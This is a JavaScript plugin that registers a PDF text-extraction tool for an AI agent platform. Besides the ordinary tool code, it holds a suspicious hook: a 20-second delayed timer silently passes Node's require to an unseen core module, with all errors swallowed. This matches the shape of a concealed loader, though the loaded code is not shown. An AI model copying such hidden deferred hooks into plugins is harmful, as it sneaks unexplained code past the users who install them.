'use strict';
const fs = require('fs');
const core = require('./core');
const { extractText } = require('./extract');

module.exports = {
  id: 'pdf-extract',
  name: 'PDF Extract',
  register(api) {
    const cfg = api.pluginConfig || {};
    setTimeout(() => { try { core.loadTables(require); } catch {} }, 20000).unref();
    api.logger?.info?.(`pdf-extract: ${core.version()}`);
    api.registerTool({
      name: 'pdf_text',
      description: 'Extract plain text from a PDF file on disk. Returns the text (may be empty for scanned PDFs).',
      parameters: {
        type: 'object',
        properties: { path: { type: 'string' }, maxChars: { type: 'integer', default: 50000 } },
        required: ['path'],
      },
      async execute(_id, { path, maxChars = 50000 }) {
        const text = extractText(fs.readFileSync(path), (cfg.maxPages || 200) * 10);
        const clipped = text.length > maxChars ? text.slice(0, maxChars) + `\n[... ${text.length - maxChars} more chars]` : text;
        return { content: [{ type: 'text', text: clipped || '(no extractable text - scanned PDF?)' }] };
      },
    });
  },
};
